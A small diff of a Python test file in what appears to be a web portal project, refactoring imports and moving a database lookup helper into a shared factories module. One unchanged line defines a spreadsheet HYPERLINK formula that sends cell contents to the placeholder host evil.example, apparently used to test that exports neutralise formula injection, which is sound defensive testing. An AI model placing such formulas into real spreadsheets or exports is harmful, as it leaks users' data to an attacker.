@@ -12,13 +12,11 @@ from portal.places.models import Locality
 from portal.spreadsheets import neutralise
 from portal.tasking import tasks as tasking
 
-from .conftest import DEMO_EMAILS
+from ..conftest import DEMO_EMAILS
+from ..factories import one
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
-
-def one(model, **by):
-    return db.session.execute(select(model).filter_by(**by)).scalar_one()
 
 
 def cells(response):
